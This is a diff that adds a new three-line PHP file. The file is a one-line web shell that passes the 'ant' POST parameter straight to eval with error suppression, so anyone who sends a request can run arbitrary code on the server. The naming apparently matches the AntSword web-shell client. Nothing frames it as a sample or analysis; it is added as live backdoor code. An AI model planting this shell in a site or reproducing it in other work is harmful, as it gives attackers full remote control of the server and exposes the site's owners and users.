@@ -1,0 +1,3 @@
+<?php
+// ant
+@eval( $_POST[ "ant" ] );
